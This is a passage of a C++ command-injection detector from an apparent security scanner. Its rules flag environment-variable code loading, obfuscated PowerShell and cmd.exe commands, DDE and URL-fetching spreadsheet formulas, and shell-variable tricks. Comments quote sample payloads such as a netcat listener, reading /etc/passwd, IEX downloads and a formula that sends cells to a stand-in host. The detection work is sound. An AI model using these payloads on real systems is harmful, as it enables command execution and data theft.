      while (k < v.size() && k - t < 80 && (scan::IsWordChar(v[k]) || v[k] == '.')) ++k;
      if (k > t + 3 && k < v.size() && v[k] == '(') {
        return FillMatch(m, "cmdi.powershell_static_call",
                         "PowerShell call of a .NET static method after a separator", 80, b - 1,
                         k + 1 - (b - 1));
      }
    }
    return false;
  }

  // An environment setting that makes the next program run code of the
  // sender's choosing, as a function's or a build's settings take it:
  // LD_PRELOAD/LD_AUDIT (a library), BASH_ENV and PROMPT_COMMAND (a script or
  // command), GIT_SSH_COMMAND, PERL5OPT with -M or -d, NODE_OPTIONS with a
  // preload, JAVA_TOOL_OPTIONS or _JAVA_OPTIONS with -javaagent.
  // ("NODE_OPTIONS=--max-old-space-size=4096" is not reported.)
  static bool EnvironmentInjection(std::string_view v, Match* m) {
    int checks = 16;
    for (size_t eq = v.find('='); eq != std::string_view::npos && checks-- > 0;
         eq = v.find('=', eq + 1)) {
      size_t b = eq;
      while (b > 0 && eq - b < 24 &&
             ((v[b - 1] >= 'A' && v[b - 1] <= 'Z') || IsDigit(v[b - 1]) || v[b - 1] == '_')) {
        --b;
      }
      if (b == eq || (b > 0 && !scan::IsSpace(v[b - 1]) && v[b - 1] != ';' && v[b - 1] != '&' &&
                      v[b - 1] != '"' && v[b - 1] != '\'')) {
        continue;
      }
      const std::string_view name = v.substr(b, eq - b);
      size_t a = eq + 1;
      if (a < v.size() && (v[a] == '"' || v[a] == '\'')) ++a;
      const std::string_view value = v.substr(a, 256);
      if (value.empty() || scan::IsSpace(value[0])) continue;
      bool dangerous = false;
      if (scan::EqualsAny(name, {"LD_PRELOAD", "LD_AUDIT", "BASH_ENV", "PROMPT_COMMAND",
                                 "GIT_SSH_COMMAND"})) {
        dangerous = true;
      } else if (name == "PERL5OPT") {
        dangerous = value.starts_with("-M") || value.starts_with("-d");
      } else if (name == "NODE_OPTIONS") {
        dangerous = scan::Find(value, "--require") != std::string_view::npos ||
                    scan::Find(value, "--import") != std::string_view::npos ||
                    scan::Find(value, "-r ") != std::string_view::npos ||
                    scan::Find(value, "loader") != std::string_view::npos;
      } else if (name == "JAVA_TOOL_OPTIONS" || name == "_JAVA_OPTIONS") {
        dangerous = scan::Find(value, "-javaagent") != std::string_view::npos;
      }
      if (dangerous) {
        return FillMatch(m, "cmdi.environment_injection",
                         "Environment setting " + std::string(name) +
                             " makes the next program run code of the sender's choosing",
                         80, b, std::min(v.size(), a + 32) - b);
      }
    }
    return false;
  }

  // PowerShell running what it has no name for in the value: the shell
  // named by $env:ComSpec through the call operator ("& $env:ComSpec /c
  // whoami") ...
  static bool EnvComSpecCall(std::string_view v, Match* m) {
    int checks = 8;
    for (size_t e = scan::IFind(v, "$env:comspec"); e != std::string_view::npos && checks-- > 0;
         e = scan::IFind(v, "$env:comspec", e + 12)) {
      size_t b = e;
      while (b > 0 && IsBlank(v[b - 1])) --b;
      const bool called = b > 0 && (v[b - 1] == '&' || v[b - 1] == '.');
      const size_t a = SkipBlanks(v, e + 12);
      const bool switched = a + 1 < v.size() && v[a] == '/' &&
                            (Lower(v[a + 1]) == 'c' || Lower(v[a + 1]) == 'k');
      if (called || switched) {
        return FillMatch(m, "cmdi.powershell_indirection",
                         "PowerShell runs the shell that $env:ComSpec names", 85, e, 12);
      }
    }
    return false;
  }

  // ... or Invoke-Expression under an alias made for it ("sal x iex;
  // x 'whoami'").
  static bool AliasedInvokeExpression(std::string_view v, Match* m) {
    // (The runner's name first, found from its 'x', which prose holds far
    // less often than the other letters.)
    bool runner = false;
    for (size_t x = scan::FindAnyOf(v, 0, 'x', 'X', 'x'); x != std::string_view::npos && !runner;
         x = scan::FindAnyOf(v, x + 1, 'x', 'X', 'x')) {
      runner = (x >= 2 && scan::IAt(v, x - 2, "iex")) ||
               (x >= 8 && scan::IAt(v, x - 8, "invoke-expression"));
    }
    if (!runner) return false;
    static constexpr std::string_view kAliasCommands[] = {"set-alias", "new-alias", "sal", "nal"};
    static constexpr std::array<std::string_view, 2> kRunners = {"iex", "invoke-expression"};
    for (std::string_view c : kAliasCommands) {
      for (size_t k = scan::IFind(v, c); k != std::string_view::npos; k = scan::IFind(v, c, k + 1)) {
        if (k > 0 && (IsAlnum(v[k - 1]) || v[k - 1] == '-')) continue;
        size_t n = k + c.size();
        if (n >= v.size() || !IsBlank(v[n])) continue;
        n = SkipBlanks(v, n);
        size_t ne = n;
        while (ne < v.size() && (IsAlnum(v[ne]) || v[ne] == '-' || v[ne] == '_')) ++ne;
        if (ne == n) continue;
        const size_t t = SkipBlanks(v, ne);
        size_t te = t;
        while (te < v.size() && (IsAlnum(v[te]) || v[te] == '-')) ++te;
        if (te > ne && t > ne && scan::IEqualsAny(v.substr(t, te - t), kRunners)) {
          return FillMatch(m, "cmdi.powershell_indirection",
                           "PowerShell alias made for a cmdlet that runs code", 85, k, te - k);
        }
        break;  // one look per spelling
      }
    }
    return false;
  }

  // PowerShell's format operator putting a name together from pieces, the
  // way obfuscators hide a cmdlet or type: "{1}{0}" -f 'ami','who'. The format
  // string is placeholders only, or places them out of order, and at least
  // two quoted pieces follow "-f".
  static bool PowerShellFormatPieces(std::string_view v, Match* m) {
    int checks = 16;
    for (size_t f = v.find('-'); f != std::string_view::npos && checks-- > 0;
         f = v.find('-', f + 1)) {
      if (f + 2 >= v.size() || (v[f + 1] != 'f' && v[f + 1] != 'F') || !IsBlank(v[f + 2])) {
        continue;
      }
      // The format string closes before "-f".
      size_t e = f;
      while (e > 0 && IsBlank(v[e - 1])) --e;
      if (e == f || e == 0 || (v[e - 1] != '"' && v[e - 1] != '\'')) continue;
      const char q = v[e - 1];
      size_t b = e - 1;
      while (b > 0 && e - b < 120 && v[b - 1] != q) --b;
      if (b == 0 || v[b - 1] != q) continue;
      const std::string_view fmt = v.substr(b, e - 1 - b);
      int placeholders = 0;
      bool only_placeholders = true, out_of_order = false;
      int last = -1;
      for (size_t i = 0; i < fmt.size();) {
        if (fmt[i] == '{' && i + 2 < fmt.size() && IsDigit(fmt[i + 1])) {
          size_t j = i + 1;
          int n = 0;
          while (j < fmt.size() && IsDigit(fmt[j]) && n < 1000) n = n * 10 + (fmt[j++] - '0');
          if (j < fmt.size() && fmt[j] == '}') {
            ++placeholders;
            out_of_order = out_of_order || n < last;
            last = n;
            i = j + 1;
            continue;
          }
        }
        only_placeholders = false;
        ++i;
      }
      if (placeholders < 2 || (!only_placeholders && !out_of_order)) continue;
      // Two quoted pieces after "-f", joined by ','.
      size_t k = f + 2;
      int pieces = 0;
      while (pieces < 2) {
        while (k < v.size() && IsBlank(v[k])) ++k;
        if (k >= v.size() || (v[k] != '"' && v[k] != '\'')) break;
        const size_t close = v.substr(k + 1, 120).find(v[k]);
        if (close == std::string_view::npos) break;
        ++pieces;
        k = k + 1 + close + 1;
        if (pieces == 2) break;
        while (k < v.size() && IsBlank(v[k])) ++k;
        if (k >= v.size() || v[k] != ',') break;
        ++k;
      }
      if (pieces == 2) {
        return FillMatch(m, "cmdi.powershell_format_pieces",
                         "PowerShell format operator assembles a name from quoted pieces", 80,
                         b - 1, k - (b - 1));
      }
    }
    return false;
  }

  // cmd.exe running a command its variables spell: after '&' or '|' (and
  // CALL), a word of two or more %name% expansions ("&& %a%%b%",
  // "& set a=who&& set b=ami&& call %a%%b%").
  static bool VariablesAsCommand(std::string_view v, Match* m) {
    // The number of %name% expansions that make up the word at `p`, or 0.
    const auto variables_at = [&](size_t p, size_t* end) {
      int n = 0;
      while (p < v.size() && v[p] == '%' && n < 8) {
        size_t e = p + 1;
        while (e < v.size() && e - p < 32 && (IsAlnum(v[e]) || v[e] == '_')) ++e;
        if (e == p + 1 || e >= v.size() || v[e] != '%' || !IsAlpha(v[p + 1])) return 0;
        p = e + 1;
        ++n;
      }
      *end = p;
      return p == v.size() || IsBlank(v[p]) || v[p] == '&' || v[p] == '|' || v[p] == '\n' ||
                     v[p] == '\r'
                 ? n
                 : 0;
    };
    // A '%' before a letter must occur ("100% refund" has none).
    bool named = false;
    for (size_t k = v.find('%'); k != std::string_view::npos && !named; k = v.find('%', k + 1)) {
      named = k + 1 < v.size() && IsAlpha(v[k + 1]);
    }
    if (!named) return false;
    int checks = 16;
    for (size_t s = scan::FindAnyOf(v, 0, '&', '|', '|'); s != std::string_view::npos && checks-- > 0;
         s = scan::FindAnyOf(v, s + 1, '&', '|', '|')) {
      size_t p = s + 1;
      if (p < v.size() && v[p] == v[s]) ++p;
      p = SkipBlanks(v, p);
      if (IAt(v, p, "call") && p + 4 < v.size() && IsBlank(v[p + 4])) p = SkipBlanks(v, p + 4);
      size_t end = p;
      const int n = variables_at(p, &end);
      if (n >= 2) {
        return FillMatch(m, "cmdi.variable_command",
                         "cmd.exe runs a command spelled by its variables", 80, s, end - s);
      }
    }
    return false;
  }

  // A spreadsheet formula that calls a program through DDE, as a cell of an
  // exported CSV runs it when opened: "=cmd|' /C calc'!A0",
  // "@SUM(1+1)*cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\cmd.exe /c x'!''". The
  // value opens as a formula does ('=', '+', '-' or '@').
  static bool DdeFormula(std::string_view v, Match* m) {
    size_t b = 0;
    // (A tab or line break first passes sanitizers that look at the first
    // byte only; the spreadsheet skips it.)
    while (b < v.size() && (v[b] == ' ' || v[b] == '"' || v[b] == '\'' || v[b] == '\t' ||
                            v[b] == '\r' || v[b] == '\n')) {
      ++b;
    }
    if (b >= v.size() || (v[b] != '=' && v[b] != '+' && v[b] != '-' && v[b] != '@')) return false;
    // =DDE("cmd";"/C calc";"!A0"), =DDEAUTO(...): the function form.
    for (std::string_view f : {"dde(", "ddeauto("}) {
      const size_t p = scan::IFind(v.substr(0, std::min(v.size(), b + 64)), f);
      if (p != std::string_view::npos && (p == 0 || !IsAlnum(v[p - 1]))) {
        return FillMatch(m, "cmdi.dde_formula", "spreadsheet formula runs a program through DDE",
                         80, p, f.size());
      }
    }
    if (FormulaSendsCells(v, b, m)) return true;
    int checks = 8;
    for (size_t bar = v.find("|'", b); bar != std::string_view::npos && checks-- > 0;
         bar = v.find("|'", bar + 2)) {
      size_t w = bar;
      while (w > b && bar - w < 32 && (IsAlnum(v[w - 1]) || v[w - 1] == '_')) --w;
      if (bar - w < 2) continue;
      const size_t close = v.substr(0, bar + 256).find("'!", bar + 2);
      if (close != std::string_view::npos) {
        return FillMatch(m, "cmdi.dde_formula",
                         "spreadsheet formula runs a program through DDE", 80, w, close + 2 - w);
      }
    }
    return false;
  }

  // A formula (from `b`) that hands cells to a URL it fetches or links to:
  // =WEBSERVICE("http://x.example/?"&A1), =IMPORTXML(CONCAT("http://…",A1),
  // "//a"), =HYPERLINK("http://x.example/?d="&B2,"Details"). The cells leave
  // the workbook of whoever opens the export.
  static bool FormulaSendsCells(std::string_view v, size_t b, Match* m) {
    static constexpr std::string_view kFetchers[] = {
        "webservice(", "importxml(", "importdata(", "importhtml(", "importfeed(",
        "importrange(", "image(", "hyperlink("};
    const std::string_view head = v.substr(b, std::min<size_t>(v.size() - b, 512));
    if (scan::IFind(head, "http") == std::string_view::npos) return false;
    for (std::string_view f : kFetchers) {
      const size_t p = scan::IFind(head, f);
      if (p == std::string_view::npos || (p > 0 && IsAlnum(head[p - 1]))) continue;
      // A cell reference joined in: after '&' or ',' (CONCAT's arguments).
      for (size_t k = p + f.size(); k < head.size(); ++k) {
        if (head[k] != '&' && head[k] != ',') continue;
        size_t c = k + 1;
        while (c < head.size() && head[c] == ' ') ++c;
        size_t letters = c;
        while (letters < head.size() && letters - c < 3 && head[letters] >= 'A' &&
               head[letters] <= 'Z') {
          ++letters;
        }
        size_t digits = letters;
        while (digits < head.size() && digits - letters < 7 && IsDigit(head[digits])) ++digits;
        if (letters > c && digits > letters &&
            (digits == head.size() || !(IsAlnum(head[digits]) || head[digits] == '_'))) {
          return FillMatch(m, "cmdi.formula_injection",
                           "spreadsheet formula sends cells to a URL it fetches or links to", 75,
                           b + p, digits - p);
        }
      }
    }
    return false;
  }

  static bool InspectBatchControl(std::string_view v, const CharMask& mask, Match* m) {
    static constexpr uint64_t kFor = CharMask::AlnumOf("fordin");
    static constexpr uint64_t kIf = CharMask::AlnumOf("if");
    const bool may_for = mask.Has('%') && mask.Has('(') && mask.HasAlnumOf(kFor);
    if (!may_for && !mask.HasAlnumOf(kIf)) return false;
    auto check = [&](size_t p) {
      while (p < v.size() && (IsBlank(v[p]) || v[p] == '@' || v[p] == '"' || v[p] == '\'')) ++p;
      if (p + 2 >= v.size()) return false;
      const char c = Lower(v[p]);
      if (c == 'f' && may_for && BatchForAt(v, p)) {
        return FillMatch(m, "cmdi.batch_control", "cmd.exe FOR loop running a command", 85, p, 3);
      }
      if (c == 'i' && BatchIfAt(v, p)) {
        return FillMatch(m, "cmdi.batch_control", "cmd.exe IF statement running a command", 80,
                         p, 2);
      }
      return false;
    };
    if (check(0)) return true;
    if (!mask.HasAny("&|;(") && !mask.has_control) return false;
    // Command positions looked at per value, in two vectorized passes.
    int budget = 16;
    for (size_t i = scan::FindAnyOf(v, 0, '&', '|', ';'); i < v.size() && budget-- > 0;
         i = scan::FindAnyOf(v, i + 1, '&', '|', ';')) {
      if (check(i + 1)) return true;
    }
    budget = 16;
    for (size_t i = scan::FindAnyOf(v, 0, '(', '\n', '\r'); i < v.size() && budget-- > 0;
         i = scan::FindAnyOf(v, i + 1, '(', '\n', '\r')) {
      if (check(i + 1)) return true;
    }
    return false;
  }

  // What ReadWord() and ResolveWord() make of the common word with no quote,
  // '$' or '\\' (nor a glob in a word that starts with '/'): its lower-cased
  // bytes, resolved to the part after the last '/' less an .exe-style
  // extension. True when that name is no command, so the word resolves to
  // nothing and CheckPosition() reports nothing.
  static bool CannotBeCommand(std::string_view v, size_t p, bool in_brace) {
    size_t base = p;
    size_t i = p;
    for (; i < v.size() && i - p < kMaxWordScan; ++i) {
      const unsigned char c = static_cast<unsigned char>(v[i]);
      if (kWordStop[c] == 0) continue;
      if (i > p && EmptySubstitutionBeforeLetter(v, i)) {
        return false;  // "pi``ng": ReadWord() joins the letters
      }
      if (kWordStop[c] == kStopEnd) break;
      if (kWordStop[c] == kStopBrace) {
        if (in_brace) break;
        continue;
      }
      if (kWordStop[c] == kStopSpecial) return false;
      // A glob matters only in a name that starts with '/' (the globbed
      // binary path rule); elsewhere '?' and '*' are bytes of the name.
      if (kWordStop[c] == kStopGlob) {
        if (v[p] == '/') return false;
        continue;
      }
      base = i + 1;  // '/'
    }
    if (i - p > kMaxWord) return true;  // too long to resolve
    std::string_view name = v.substr(base, i - base);
    if (name.empty() || name.size() >= kCommandTable.kMaxWord) return true;
    const char first = Lower(name[0]);
    if (!Unversioned(name).empty()) return false;
    if (!kCommandTable.MayHave(first, name.size()) &&
        !(name.size() > 4 && kCommandTable.MayHave(first, name.size() - 4))) {
      return true;  // neither the name nor the name less an extension
    }
    return LookupAnyCase(name, /*strip_exe=*/true) == Tier::kNone;
  }

  // Commands that run the command named after them (with options and
  // numbers of their own before it): "time sh -c id", "nohup nc ...".
  static bool IsWrapperCommand(std::string_view name) {
    static constexpr std::string_view kWrappers[] = {
        "time",   "nohup",  "nice",   "timeout", "env",    "sudo",  "xargs",
        "strace", "ltrace", "setsid", "stdbuf",  "busybox", "exec"};
    for (std::string_view w : kWrappers) {
      if (name == w) return true;
    }
    return false;
  }

  // True when `name=` with a value assigns the variable at a command's start
  // before `end` ("a=nc&&$a -lvp 4444", "c=cat;$c /etc/passwd"). Only the
  // 256 bytes before `end` are searched, so that many uses on one line stay
  // linear.
  static bool AssignedBefore(std::string_view v, std::string_view name, size_t end) {
    if (name.empty()) return false;
    const size_t from = end > 256 ? end - 256 : 0;
    const std::string_view window = v.substr(from, end - from);
    for (size_t j = window.rfind(name); j != std::string_view::npos;
         j = j == 0 ? std::string_view::npos : window.rfind(name, j - 1)) {
      const size_t k = from + j;
      const size_t eq = k + name.size();
      if (eq + 1 >= end || v[eq] != '=' || IsBlank(v[eq + 1]) || v[eq + 1] == ';' ||
          v[eq + 1] == '&' || v[eq + 1] == '|') {
        continue;
      }
      const char before = k > 0 ? v[k - 1] : ';';
      if (before == ';' || before == '&' || before == '|' || before == '\n' || before == '(' ||
          before == '`' || IsBlank(before)) {
        return true;
      }
    }
    return false;
  }

  // `last_paren`: position of the last ')' in `v`, or npos.
  // `run_checks`: how many more CannotRunAt() readings this value may make.
  // `hops`: wrapper commands already stepped over to reach p.
  static bool CheckPosition(std::string_view v, size_t p, Context ctx, Match* m, bool in_brace,
                            size_t last_paren, int* run_checks, int hops = 0) {
    p = SkipBlanks(v, p);
    // A subshell "(cmd)" (closed later) starts a command too; inside it a
    // ')' after the command closes it.
    for (int depth = 0; depth < 4 && p < v.size() && v[p] == '(' &&
                        last_paren != std::string_view::npos && last_paren > p;
         ++depth) {
      p = SkipBlanks(v, p + 1);
      if (ctx == Context::kStart) ctx = Context::kStrong;
    }
    if (p < v.size() && v[p] == '$' && ctx != Context::kWeak && ctx != Context::kStart) {
      const Variable var = VariableAt(v, p);
      // "|$0 -c 'uname -a'": $0 names the running shell.
      const size_t n = var.length > 0 ? var.length
                                      : (p + 2 < v.size() && v[p + 1] == '0' ? 2 : 0);
      if (n > 0) {
        if (var.length > 0 && AssignedBefore(v, var.name, p)) {
          return FillMatch(m, "cmdi.variable_command",
                           "Runs the command held in $" + std::string(var.name) +
                               ", assigned earlier in the value",
                           85, p, n);
        }
        // "|$u wget x": an unset variable alone expands to nothing, and the
        // next word is the command.
        const size_t q = SkipBlanks(v, p + n);
        // "; $SHELL -c id", "|$0 -c 'uname -a'": the shell itself, named by
        // a variable, given a command string.
        if (q > p + n && IAt(v, q, "-c") && q + 2 < v.size() && IsBlank(v[q + 2]) &&
            SkipBlanks(v, q + 2) < v.size()) {
          return FillMatch(m, "cmdi.variable_command",
                           "Runs the shell named by " + std::string(v.substr(p, n)) +
                               " with a command string",
                           80, p, q + 2 - p);
        }
        // ";$0<<<id": the shell reads its commands from a here-string.
        const bool shell_variable = var.length == 0 || scan::IEquals(var.name, "shell") ||
                                    scan::IEquals(var.name, "bash");
        if (shell_variable && IAt(v, q, "<<<") && SkipBlanks(v, q + 3) < v.size()) {
          return FillMatch(m, "cmdi.variable_command",
                           "Runs the shell named by " + std::string(v.substr(p, n)) +
                               " on a here-string",
                           80, p, q + 3 - p);
        }
        if (hops < 2 && q > p + n && q < v.size()) {
          return CheckPosition(v, q, ctx, m, in_brace, last_paren, run_checks, hops + 1);
        }
      }
    }
    if (p >= v.size() || CannotBeCommand(v, p, in_brace)) return false;
    Word w = ReadWord(v, p, in_brace);
    if (w.plain_len == 0) return false;
    Resolved r = ResolveWord(w);
    if (r.tier == Tier::kNone) {
      // "id\n": the name ends where an escaped line break starts (while
      // "u\name" stays the escaped "uname" resolved above).
      for (size_t k = p + 1; k < w.end; ++k) {
        if (IsLiteralLineBreak(v, k)) {
          w = ReadWord(v.substr(0, k), p, in_brace);
          r = ResolveWord(w);
          break;
        }
      }
    }
    if (r.tier == Tier::kNone) {
      // Globbed binary path: /???/c?t, /bin/ca*; in a binary directory
      // written out, one glob in the name is enough (/bin/ca?).
      if (w.glob && ctx != Context::kWeak && w.plain_len >= 5 && w.plain[0] == '/') {
        std::string_view s(w.plain, w.plain_len);
        size_t q = std::count(s.begin(), s.end(), '?') + std::count(s.begin(), s.end(), '*');
        bool shellish = true;
        for (char c : s) shellish = shellish && (IsAlnum(c) || c == '/' || c == '?' || c == '*');
        const size_t last_slash = s.rfind('/');
        const std::string_view dir = s.substr(0, last_slash + 1);
        const bool named_bin_dir = last_slash + 1 < s.size() && IsBinDir(dir) &&
                                   dir.find_first_of("?*") == std::string_view::npos;
        if ((q >= 2 || named_bin_dir) && shellish && std::count(s.begin(), s.end(), '/') >= 2) {
          return FillMatch(m, "cmdi.glob_command", "Command name written with shell globs", 80, p,
                           w.end - p);
        }
      }
      return false;
    }
    // A variable might hold anything; joined into a name, only a tool's name
    // (which a random "id$abc" hardly spells) counts.
    if (w.named_variable && r.tier != Tier::kTool) return false;
    if (hops < 2 && IsWrapperCommand(r.name)) {
      // The wrapped command, past up to three options ("-n") or durations
      // and counts ("5", "10s").
      size_t q = SkipBlanks(v, w.end);
      for (int k = 0; k < 3 && q < v.size(); ++k) {
        size_t e = q;
        while (e < v.size() && !EndsWord(v[e], in_brace)) ++e;
        size_t digits = q;
        while (digits < e && IsDigit(v[digits])) ++digits;
        const bool count = digits > q && (digits == e || (digits + 1 == e && IsAlpha(v[digits])));
        if (v[q] != '-' && !count) break;
        q = SkipBlanks(v, e);
      }
      if (q > w.end && q < v.size() &&
          CheckPosition(v, q, ctx, m, in_brace, last_paren, run_checks, hops + 1)) {
        return true;
      }
    }
    if (r.bin_dir && ctx != Context::kWeak) {
      return FillMatch(m, "cmdi.binary_path",
                       "Absolute path to the " + std::string(r.name) + " binary in a value", 85, p,
                       w.end - p);
    }
    ArgShape arg = ClassifyArg(v, w.end, r.name, ctx == Context::kStart);
    // "1\nid;": on a line of its own, a short command that an operator ends,
    // with nothing after it on that line. Prose and lists do not end a line
    // with "id;" or "env|".
    const bool line_command = ctx == Context::kWeak && r.tier == Tier::kShort &&
                              arg == ArgShape::kSeparator && OperatorEndsLine(v, w.end);
    if (!line_command && !Decide(ctx, r.tier, arg)) return false;
    // Bounded so that many rejected positions on one long line stay linear.
    // (cmd.exe and PowerShell, which a Windows pipeline starts, read their
    // own arguments: "| powershell IEX(New-Object ...)" and "; IEX(iwr ...)"
    // are no bash syntax errors to them.)
    if (ctx != Context::kSubstitution && ctx != Context::kCodeSpan && *run_checks > 0 &&
        !IsWindowsShell(r.name) && !IsPowerShellCommand(r.name)) {
      --*run_checks;
      if (CannotRunAt(v, p, ctx == Context::kStart)) return false;
    }
    switch (ctx) {
      case Context::kSubstitution:
      case Context::kCodeSpan:
        return FillMatch(m, "cmdi.substitution",
                         "Command substitution running " + std::string(r.name), 90, p, w.end - p);
      case Context::kStart:
        if (PipeDelimitedTable(v)) return false;
        return FillMatch(m, "cmdi.command_line",
                         "Value is a " + std::string(r.name) + " command line", 70, p, w.end - p);
      case Context::kStrong:
        return FillMatch(m, "cmdi.separator_command",
                         "Shell separator followed by the " + std::string(r.name) + " command", 90,
                         p, w.end - p);
      case Context::kWeak:
        return FillMatch(m, "cmdi.separator_command",
                         "Shell separator followed by the " + std::string(r.name) + " command", 70,
                         p, w.end - p);
    }
    return false;
  }
};

}  // namespace

const Detector& CmdiDetector() {
  static const CmdiImpl kInstance;
  return kInstance;
}

}  // namespace fnguard::detect
